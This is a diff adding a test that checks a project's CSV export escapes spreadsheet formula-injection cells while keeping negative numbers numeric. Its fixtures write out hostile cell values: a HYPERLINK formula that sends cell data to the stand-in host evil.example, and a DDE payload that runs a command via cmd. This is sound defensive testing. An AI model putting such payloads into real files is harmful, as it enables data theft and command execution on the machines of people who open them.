@@ -120,6 +120,27 @@ def test_energetics_table_and_figures():
     assert [figure.id for figure in energetics_figures(table)] == ["fig-energetics-rm"]
 
 
+def test_csv_cells_a_spreadsheet_would_run_are_escaped_and_numbers_stay_numbers(tmp_path):
+    import csv
+
+    label = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    df = _frame([{"method": label, "strategy": "one-phase", "N": 10, "acot": 0.25},
+                 {"method": "@SUM(1+1)", "strategy": "one-phase", "N": 10, "acot": None, "status": "incomplete",
+                  "message": "-1+cmd|' /C calc'!A0"},
+                 {"method": "-0.5", "strategy": "one-phase", "N": 12, "acot": 0.5, "cot_min": -0.125}])
+    written = tables.write_csv({"acot": tables.acot_table(df), "failed_cases": tables.failed_cases(df)}, tmp_path)
+
+    with open(written[0], newline="") as file:
+        acot = {row["method"]: row for row in csv.DictReader(file)}
+    assert set(acot) == {"'" + label, "'@SUM(1+1)", "-0.5"}  # a number as text is no formula
+    assert float(acot["'" + label]["acot"]) == 0.25
+    assert float(acot["-0.5"]["cot_min"]) == -0.125  # a negative number stays a number, unquoted
+    with open(written[1], newline="") as file:
+        (failed,) = csv.DictReader(file)
+    assert failed["message"] == "'-1+cmd|' /C calc'!A0"
+    assert tables.spreadsheet_safe(pd.DataFrame({"x": [-1.5, 2.0]}))["x"].tolist() == [-1.5, 2.0]
+
+
 # --- the report of a real store ----------------------------------------------------------------------------------
 
 DOCUMENTED_CSV = {
